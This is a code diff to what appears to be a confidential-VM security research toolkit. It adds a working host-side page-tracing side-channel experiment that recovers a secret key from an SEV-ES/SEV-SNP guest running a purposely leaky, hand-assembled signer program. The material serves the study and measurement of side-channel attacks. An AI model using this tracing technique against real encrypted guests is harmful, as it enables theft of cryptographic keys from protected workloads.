@@ -1,9 +1,13 @@
 """Page tracing with single steps: the pages that a guest touches reveal what it does, in every mode."""
 
+import secrets as randomness
+
 from sevkit.attacks.experiment import Aim, Attack, Expectation, Notebook, Observation, Outcome, Source
-from sevkit.attacks.labs import model_lab
+from sevkit.attacks.labs import model_lab, program
+from sevkit.attacks.labs.guest_lab import GuestLab
+from sevkit.errors import InconclusiveError
 from sevkit.model.vcpu import Vcpu
-from sevkit.vocabulary import Mode
+from sevkit.vocabulary import Level, Mode
 
 _KEY = 0b11010010
 # Square and multiply: the page of the multiplication is touched only for the 1 bits of the key.
@@ -54,6 +58,98 @@ def model(note: Notebook) -> Observation:
     return note.stopped("unknown", "The trace does not show the key.")
 
 
+# Rounds to compare: more while several rhythms could be the key's.
+_BITS, _ROUNDS, _MOST_ROUNDS = 8, 3, 10
+_ASK = "echo >/root/signer.requests; read -r answer </root/signer.answers"
+_SQUARE, _MULTIPLY = program.DATA + 0x1000, program.DATA + 0x2000
+
+
+def guest(lab: GuestLab, note: Notebook) -> Observation:
+    """Trace the pages of a real guest while a program works through its key, one bit per request."""
+    key = _random_key()
+    note.setup(f"A program in a real guest ({lab.guest.spec.mode}) works through a key, one bit for each request.")
+    note.predict("A page that is touched exactly for the ones of the key gives the key away, encrypted or not.")
+    program.start(lab, "signer", _signer(key), pages=3, requests=True)
+    try:
+        rounds = _observe(lab)
+    finally:
+        lab.host.command("page-trace", enable=False)
+        program.stop(lab, "signer")
+    patterns = _periodic(rounds)
+    note.host(f"The host sends {_BITS * len(rounds)} requests and logs the pages that each one touches.")
+    note.host(
+        "Pages that come back in the same rhythm in every round, by rhythm:",
+        ", ".join(f"{pattern:0{_BITS}b}: {len(pages)}" for pattern, pages in patterns.items()) or "none",
+    )
+    if len(patterns) != 1:
+        raise InconclusiveError(f"{len(patterns)} different rhythms were seen: the host cannot tell which is the key")
+    (guess,) = patterns
+    if guess == key:
+        pages = ", ".join(f"{page:#x}" for page in sorted(patterns[guess]))
+        note.guest("The key is:", f"{key:0{_BITS}b}")
+        return note.works("npt-accessed-bits", f"The key is known from guest-physical {pages}; no byte of it was read.")
+    raise InconclusiveError("the rhythm that was seen is not the key's")
+
+
+def _observe(lab: GuestLab) -> list[list[set[int]]]:
+    """The pages touched for each request of each round, until one rhythm is left."""
+    lab.guest.run(f"for n in $(seq {_BITS}); do {_ASK}; done")  # a first round makes the pages exist
+    rounds: list[list[set[int]]] = []
+    while len(rounds) < _ROUNDS or (len(_periodic(rounds)) > 1 and len(rounds) < _MOST_ROUNDS):
+        rounds.append([_request(lab) for _ in range(_BITS)])
+    return rounds
+
+
+def _random_key() -> int:
+    """Three to five ones among the bits: a page that noise touches once in a round cannot look like the key."""
+    while not 3 <= (key := randomness.randbits(_BITS)).bit_count() <= 5:
+        pass
+    return key
+
+
+def _request(lab: GuestLab) -> set[int]:
+    """The pages that the guest touches while it answers one request; those before it would fill the host's log."""
+    lab.host.touched()
+    lab.guest.run(_ASK)
+    return lab.host.touched()
+
+
+def _periodic(rounds: list[list[set[int]]]) -> dict[int, set[int]]:
+    """The pages touched for the same requests of every round, for at least two but not for all; by these requests.
+
+    Request number n is bit n of the key of the result.
+    """
+    found: dict[int, set[int]] = {}
+    for page in set().union(*rounds[0]):
+        seen = {sum((page in touched) << bit for bit, touched in enumerate(each)) for each in rounds}
+        pattern = seen.pop()
+        if not seen and 2 <= pattern.bit_count() < _BITS:
+            found.setdefault(pattern, set()).add(page)
+    return found
+
+
+def _signer(key: int) -> bytes:
+    """Machine code: for each byte that it reads, touch SQUARE, and MULTIPLY too if the next bit of the key is 1.
+
+    It answers with the byte.
+
+    mov r12d, key; xor r13d, r13d; next: xor eax, eax; xor edi, edi; mov esi, DATA; mov edx, 1; syscall (read);
+    cmp eax, 1; jne end; mov ebx, SQUARE; inc qword [rbx]; bt r12d, r13d; jnc zero; mov ebx, MULTIPLY; inc qword [rbx];
+    zero: inc r13d; and r13d, 7; mov eax, 1; mov edi, 1; mov esi, DATA; mov edx, 1; syscall (write);
+    jmp next; end: xor edi, edi; mov eax, 60; syscall (exit)
+    """
+
+    def number(value: int) -> str:
+        return value.to_bytes(4, "little").hex()
+
+    read = f"31c0 31ff be{number(program.DATA)} ba01000000 0f05 83f801 7535"
+    square = f"bb{number(_SQUARE)} 48ff03 450fa3ec 7308"
+    multiply = f"bb{number(_MULTIPLY)} 48ff03"
+    step = f"41ffc5 4183e507 b801000000 bf01000000 be{number(program.DATA)} ba01000000 0f05 ebb6"
+    end = "31ff b83c000000 0f05"
+    return bytes.fromhex(f"41bc{number(key)} 4531ed {read} {square} {multiply} {step} {end}")
+
+
 _WORKS = Expectation(Outcome.WORKS, "the host owns nested tables and timer")
 ATTACK = Attack(
     name="page-trace",
@@ -74,4 +170,7 @@ ATTACK = Attack(
     mitigated=None,
     claim="page-channels",
     model=model,
+    guest=guest,
+    guest_levels=frozenset({Level.EMULATOR}),
+    guest_modes=(Mode.SEV_ES, Mode.SEV_SNP),
 )
